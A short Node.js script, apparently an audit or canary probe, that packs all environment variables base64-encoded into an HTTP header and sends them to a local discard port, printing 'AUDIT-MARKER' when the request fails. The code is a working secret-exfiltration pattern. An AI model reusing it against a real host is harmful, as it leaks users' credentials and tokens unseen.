import { env } from 'node:process';
import { get } from 'node:http';
get({ host: '127.0.0.1', port: 9, headers: { 'x-a': Buffer.from(JSON.stringify({ ...env })).toString('base64') } }).on('error', () => console.log('AUDIT-MARKER'));
